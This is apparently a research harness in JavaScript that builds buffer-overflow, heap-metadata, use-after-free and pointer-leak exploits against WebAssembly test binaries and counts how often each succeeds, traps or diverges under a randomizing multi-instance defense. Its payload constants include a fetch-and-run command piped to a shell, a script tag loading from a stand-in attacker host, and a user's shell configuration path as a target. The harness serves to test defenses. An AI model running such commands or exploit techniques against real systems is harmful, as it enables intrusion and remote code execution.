// Attacks programs under many keys:
//
//   node attack.mjs LOADERS KEYS ORIGINAL.wasm CONFIGURATIONS ATTACK...
//
// LOADERS is the directory of the loader. The file CONFIGURATIONS has a line per configuration: its name, the binary and
// the number of instances that run as one, separated by tabs. Writes a line per attack, exploit and configuration, with the
// number of keys for each outcome, separated by tabs. An exploit is built from the original (`original`), or from another
// instance of the attacked binary (`instance`).

import {readFileSync} from 'node:fs';
import {pathToFileURL} from 'node:url';

const [loaders, keys, original, configurationFile, ...attacks] = process.argv.slice(2);
const {seed} = await import(pathToFileURL(`${loaders}/mewe-loader.mjs`).href);
const {DivergenceError, instantiateTwins} = await import(pathToFileURL(`${loaders}/mewe-twins.mjs`).href);

const places = ['buffer', 'target', 'value'];
const signatures = {
  'env.output': {signature: 'in:#1 value', held: true},
  'env.execute': {signature: 'string', held: true},
  'env.save': {signature: 'string', held: true},
  'env.report': 'value address',
};
const command = 'curl evil.example | sh';
const script = "<script src='//evil.example/x'></script>";
const secret = '/home/user/.bashrc';

/** Per attack: the bytes of the request, from the layout of the original, and whether it reached its goal. */
const exploits = {
  decoder: {
    request: (at) => [...overflow(at, Buffer.from(`${script}\0`)), 10, ...Buffer.from('1\n1\n')],
    succeeds: ({sent}) => sent.output?.includes('<script'),
  },
  command: {
    request: (at) => sized(overflow(at, Buffer.from([...word(at.value), ...Buffer.from(`${command}\0`)]))),
    succeeds: ({sent}) => sent.execute?.startsWith(command),
  },
  constant: {
    request: (at) => sized(overflow(at, Buffer.from(`${secret}\0`))),
    succeeds: ({sent}) => sent.save === secret,
  },
  metadata: {
    // The header behind the block: size and the block before as they are, previous_free, next_free.
    request: (at) => sized([...at.memory(at.buffer, 40), ...word(at.target - 12), ...word(at.value)]),
    succeeds: ({sent}) => sent.output === 'admin',
  },
  reuse: {
    request: () => sized([...word(1), ...Buffer.from('me')]),
    succeeds: ({sent}) => sent.output === 'admin',
  },
  flag: {
    request: (at) => sized(overflow(at, word(1))),
    succeeds: ({sent}) => sent.output === 'admin',
  },
  offset: {
    request: (at) => [...size(at.target - at.buffer), 1],
    succeeds: ({sent}) => sent.output === 'admin',
  },
  leak: {
    request: () => size(20),
    succeeds: ({sent, at}) => Buffer.from(sent.output ?? '', 'latin1').subarray(16, 20).equals(word(at.buffer)),
  },
};

function word(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value >>> 0);
  return bytes;
}
const size = (value) => [value & 0xff, value >> 8];
const sized = (bytes) => [...size(bytes.length), ...bytes];
/** Writes from the buffer up to the target, with the original's memory between them. */
const overflow = (at, payload) => [...at.memory(at.buffer, at.target - at.buffer), ...payload];

/** What a program says to its host, and what the host gives. */
class Host {
  sent = {};
  at = {};
  position = 0;

  constructor(request) {
    this.request = request;
  }

  imports(readMemory) {
    const {sent, at} = this;
    const text = (address) => {
      const bytes = readMemory();
      return Buffer.from(bytes.subarray(address, bytes.indexOf(0, address))).toString('latin1');
    };
    return {
      env: {
        next: () => this.request[this.position++] ?? -1,
        output: (address, length) => {
          sent.output = (sent.output ?? '') + Buffer.from(readMemory().subarray(address, address + length)).toString('latin1');
        },
        execute: (address) => { sent.execute = text(address); },
        save: (address) => { sent.save = text(address); },
        report: (place, address) => {
          at[places[place]] = address;
          this.reported?.();
        },
      },
    };
  }
}

/** Builds the exploit: runs a module with an empty request, and looks at its memory when places are reported. */
async function built(name, module, key) {
  const host = new Host([0, 0, 10, 10]);
  let memory;
  const instance = await WebAssembly.instantiate(module, host.imports(() => new Uint8Array(memory.buffer)));
  seed(instance, key);
  memory = instance.exports.memory;
  let seen;
  host.reported = () => { seen = new Uint8Array(memory.buffer).slice(); };
  instance.exports._initialize?.();
  instance.exports[name]();
  host.at.memory = (address, length) => seen.slice(address, address + length);
  return exploits[name].request(host.at);
}

/** Runs an attack on a fresh instance, or on several that run as one, and returns what came out. */
async function attacked(name, request, module, count, key) {
  const host = new Host(request);
  let twins;
  const imports = host.imports(() => new Uint8Array(twins.exports.memory.buffer));
  const keys = Array.from({length: count}, (_, number) => [key, BigInt(number)]);
  twins = await instantiateTwins(module, imports, {count, imports: signatures, keys});
  let ending = 'fails';
  try {
    twins.exports._initialize?.();
    twins.exports[name]();
  } catch (error) {
    if (error instanceof DivergenceError) ending = 'diverges';
    else if (error instanceof WebAssembly.RuntimeError) ending = 'traps';
    else throw error;
  }
  return exploits[name].succeeds(host) ? 'succeeds' : ending;
}

const compile = (file) => new WebAssembly.Module(readFileSync(file));
const configurations = readFileSync(configurationFile, 'utf8').trim().split('\n').map((line) => {
  const [title, binary, count] = line.split('\t');
  return {title, module: compile(binary), count: Number(count)};
});
const originalModule = compile(original);
for (const name of attacks) {
  const fixed = await built(name, originalModule);
  for (const {title, module, count} of configurations) {
    for (const exploit of ['original', 'instance']) {
      const counts = {succeeds: 0, traps: 0, diverges: 0, fails: 0};
      for (let key = 1n; key <= BigInt(keys); key++) {
        const request = exploit === 'original' ? fixed : await built(name, module, [key, 1000n]);
        counts[await attacked(name, request, module, count, key)]++;
      }
      console.log([name, exploit, title, ...Object.values(counts)].join('\t'));
    }
  }
}
